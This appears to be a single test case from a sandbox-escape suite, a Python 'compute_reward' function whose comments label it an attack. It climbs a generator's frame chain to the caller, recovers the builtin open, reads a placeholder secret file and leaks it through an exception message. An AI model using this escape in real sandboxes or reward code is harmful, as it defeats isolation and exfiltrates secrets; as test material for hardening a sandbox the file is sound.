# attack: a generator's frame leads to the caller's globals
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    def steps():
        yield found.gi_frame.f_back.f_back
    found = steps()
    frame = next(found)
    raise ValueError(frame.f_builtins["open"]("@SECRET@").read())
